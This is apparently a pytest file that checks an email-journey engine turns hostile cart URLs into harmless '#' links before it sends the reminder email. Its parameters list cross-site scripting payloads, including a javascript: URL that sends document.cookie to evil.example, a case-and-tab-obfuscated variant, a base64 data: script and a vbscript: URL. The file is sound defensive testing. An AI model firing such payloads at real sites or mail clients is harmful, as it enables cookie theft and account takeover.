"""A cart URL written by whoever sends events never becomes a javascript: link in the email
the customer receives: through the engine, rendered and sent to the SendGrid emulator."""

from html.parser import HTMLParser

import pytest

from sandbox import SandboxClient
from tests.conftest import START
from tests.touchline.engine.test_language import advance, customer, event, journey, send
from touchline.content import TemplateCatalog
from touchline.content.safe_links import is_safe_url
from touchline.db import Database
from touchline.engine import Engine

CART = """key: cart
name: Cart
purpose: marketing
trigger: {event: cart.abandoned}
reentry: every_event
steps:
  - {id: cart_email, type: send, channel: email, template: cart/reminder}
"""


def hrefs(html: str) -> list[str]:
    found: list[str] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(v or "" for k, v in attrs if k in {"href", "src"})

    Links().feed(html)
    return found


@pytest.mark.parametrize(
    "url",
    ["javascript:fetch('//evil.example/?c='+document.cookie)", " JaVa\tScRiPt:alert(1)",
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)"],
)  # fmt: skip
def test_a_hostile_cart_url_arrives_as_a_harmless_link(
    db: Database, engine: Engine, catalog: TemplateCatalog, sandbox_client: SandboxClient, url: str
) -> None:
    journey(db, catalog, CART)
    cart = {"items": [{"name": "Boots", "price": 80}], "total": 80, "currency": "EUR", "url": url}
    send(db, customer("c1"), event("cart-1", "cart.abandoned", "c1", START, cart=cart))
    assert advance(engine, START).count("sent") == 1
    [email] = sandbox_client.emails(to="c1@example.com")
    links = hrefs(email["html"])
    assert "#" in links  # the cart button is still there, pointing nowhere
    assert all(is_safe_url(link, decode_entities=False) for link in links), links
    assert "javascript" not in email["html"].lower() and "vbscript" not in email["html"].lower()
